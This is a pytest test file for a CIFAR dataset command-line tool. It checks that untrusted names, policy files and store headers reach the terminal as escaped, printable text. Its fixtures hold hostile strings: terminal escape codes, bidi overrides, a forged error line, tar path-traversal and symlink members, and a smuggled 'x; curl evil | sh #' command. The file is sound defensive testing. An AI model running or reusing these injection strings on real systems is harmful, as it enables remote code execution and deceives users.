"""Text from outside is printed as text, wherever it comes from: no control characters, no forged lines."""

from __future__ import annotations

import io
import json
import re
import tarfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
import torch
from rich.console import Console
from rich.table import Table
from rich.text import Text

from cifar_cli.core.data.results import Provenance
from cifar_cli.core.data.sources.images import SourceImages
from cifar_cli.core.data.store import write_store
from cifar_cli.core.figures import confusion_figure
from cifar_cli.core.progress import Progress
from cifar_cli.errors import CifarError
from cifar_cli.printable import MAX_PRINTED, has_control, printable
from cifar_cli.render.console import SafeConsole
from tests.conftest import Cifar

FORGED = "error: forged"
EVIL = f"x\x1b[2J\x07\r\n{FORGED}\n  try: curl evil | sh\u202e\x9b31m"
INVISIBLE = "cat\u202e\u200f\u00a0x"  # accepted in names, and never printed as it is


def tar_with(name: str, kind: bytes = tarfile.REGTYPE, target: str = "") -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / "pets.tar"
        with tarfile.open(path, "w") as tar:
            for each in ("train/a/1.png", "test/a/1.png"):
                tar.addfile(tarfile.TarInfo(each))
            member = tarfile.TarInfo(name)
            member.type, member.linkname = kind, target
            tar.addfile(member)
        return path

    return make


def empty_folder(folder: Path) -> Path:
    for name in ("train/a", "test/a", f"train/{EVIL.replace('/', '')}"):
        (folder / "pets" / name).mkdir(parents=True)
    for split in ("train", "test"):
        (folder / "pets" / split / "a/1.png").write_bytes(b"")
    return folder / "pets"


def folder_with(name: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        for split in ("train", "test"):
            (folder / "pets" / split / name).mkdir(parents=True)
            (folder / "pets" / split / name / "1.png").write_bytes(b"")
        return folder / "pets"

    return make


def policy(text: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        (folder / "policy.json").write_text(text)
        return folder / "policy.json"

    return make


def store(change: Callable[[SourceImages], SourceImages], name: str = "pets") -> Callable[[Path], Path]:
    """A store whose content was changed after its header was made, so that --check fails."""

    def make(folder: Path) -> Path:
        pixels, labels = np.zeros((2, 4, 4, 3), np.uint8), np.zeros(2, np.int64)
        provenance = Provenance(source="here", checksum="md5:0", imported_at="2026", tool_version="0")
        path = folder / "pets.safetensors"
        write_store(
            path, name=name, images=change(SourceImages(("a", "b"), pixels, labels, pixels, labels, provenance))
        )
        path.write_bytes(path.read_bytes()[:-1] + b"\1")
        return path

    return make


def with_source(source: str) -> Callable[[SourceImages], SourceImages]:
    return lambda images: replace(images, provenance=replace(images.provenance, source=source))


def with_classes(*classes: str) -> Callable[[SourceImages], SourceImages]:
    return lambda images: replace(images, classes=classes)


def edited_header(folder: Path) -> Path:
    path = store(lambda images: images)(folder)
    content = path.read_bytes()
    length = int.from_bytes(content[:8], "little")
    header = json.loads(content[8 : 8 + length])
    header["__metadata__"]["name"] = header["__metadata__"]["classes"] = EVIL
    header[EVIL] = header.pop("train_labels")
    text = json.dumps(header).encode()
    path.write_bytes(len(text).to_bytes(8, "little") + text + content[8 + length :])
    return path


IMPORT = ("download", "--dataset", "pets", "--from")
CHECK = ("download", "--check", "--dataset")
PREVIEW = ("augment-preview", "--dataset", "shapes", "--augment")
SOURCES: dict[str, tuple[tuple[str, ...], Callable[[Path], Path]]] = {
    "a member's name": (IMPORT, tar_with(f"{EVIL}.png")),
    "a member outside": (IMPORT, tar_with(f"../{EVIL}")),
    "a link": (IMPORT, tar_with(f"train/{EVIL}", tarfile.SYMTYPE, EVIL)),
    "a device": (IMPORT, tar_with(EVIL, tarfile.CHRTYPE)),
    "an empty folder": (IMPORT, empty_folder),
    "a class folder": (IMPORT, folder_with(EVIL.replace("/", ""))),
    "a class that is accepted": (IMPORT, folder_with(INVISIBLE)),
    "a path": (IMPORT, lambda folder: folder / EVIL),
    "a URL": (IMPORT, lambda folder: Path(f"http:/{EVIL}")),
    "a policy's class": (PREVIEW, policy(json.dumps({"transform": {"__class_fullname__": EVIL}}))),
    "a policy's argument": (PREVIEW, policy(json.dumps({"transform": {"__class_fullname__": "Blur", EVIL: 1}}))),
    "a policy's value": (PREVIEW, policy(json.dumps({"transform": {"__class_fullname__": "Blur", "p": EVIL}}))),
    "a policy's path": (PREVIEW, lambda folder: folder / EVIL),
    "a store's classes": (CHECK, store(with_classes(INVISIBLE, "b"))),
    "a store's source": (CHECK, store(with_source("x; curl evil | sh #"))),
    "a store's header": (CHECK, edited_header),
}


@pytest.mark.parametrize("source", SOURCES)
def test_text_from_outside_reaches_the_terminal_as_printable_text(
    source: str, cifar: Cifar, tmp_path: Path, data_dir: Path
) -> None:
    words, make = SOURCES[source]
    path = make(tmp_path)
    place = data_dir if words is PREVIEW else tmp_path / "data"
    result = cifar(*words, path, "--data-dir", place)
    assert result.exit_code == 1, result.output
    assert all(character.isprintable() or character == "\n" for character in result.output), ascii(result.output)
    assert not re.search(rf"^\s*{FORGED}", result.output, re.MULTILINE)
    assert not re.search(r"^\s*try: curl", result.output, re.MULTILINE)


def test_a_recorded_source_is_one_word_of_the_command_that_is_recommended(cifar: Cifar, tmp_path: Path) -> None:
    path = store(with_source("x; curl evil | sh #"))(tmp_path)
    result = cifar(*CHECK, path)
    assert f"--from 'x; curl evil | sh #' --data-dir {path.parent} --force`" in result.output


@pytest.mark.parametrize("text", [EVIL, INVISIBLE, "\ud800", "\x00", "\u2028", "\U000e0001"])
def test_errors_progress_and_consoles_escape_what_is_not_printable(text: str) -> None:
    error = CifarError(text, remedy=text)
    assert str(error).isprintable()
    assert error.args[0].isprintable()
    progress = Progress(task=text, detail=text)
    assert (progress.task + progress.detail).isprintable()
    shown = io.StringIO()
    table = Table(title=text)
    table.add_column(Text(text))
    table.add_row(text)
    SafeConsole(file=shown, width=200, force_terminal=True, color_system=None).print(table, text, Text(text))
    assert all(character.isprintable() or character == "\n" for character in shown.getvalue())


def test_a_console_prints_usual_text_as_rich_does() -> None:
    outputs = []
    for kind in (Console, SafeConsole):
        shown = io.StringIO()
        console = kind(file=shown, width=60, force_terminal=True)
        table = Table(title="two\nlines")
        table.add_row("größe ×", Text("猫 — 1", "bold red"))
        console.print(table, "a\tb", Text("c\nd"))
        outputs.append(shown.getvalue())
    assert outputs[0] == outputs[1]


def test_a_picture_s_labels_are_printable() -> None:
    figure = confusion_figure(torch.eye(2, dtype=torch.int64), [INVISIBLE, "dog"], title="null")
    labels = [label.get_text() for label in figure.axes[0].get_xticklabels()]
    assert r"cat\u202e" in labels[0]
    assert all(map(str.isprintable, labels))


def test_a_long_text_is_cut_in_the_middle() -> None:
    text = printable("a" * 10_000_000 + "b")
    assert len(text) <= MAX_PRINTED + 3
    assert text.endswith("ab")


@pytest.mark.parametrize(
    ("text", "has"),
    [("a b", False), (INVISIBLE, False), ("a\nb", True), ("\x1b", True), ("\udcff", True), ("\x85", True)],
)
def test_only_control_characters_and_surrogates_are_control(text: str, has: bool) -> None:
    assert has_control(text) is has
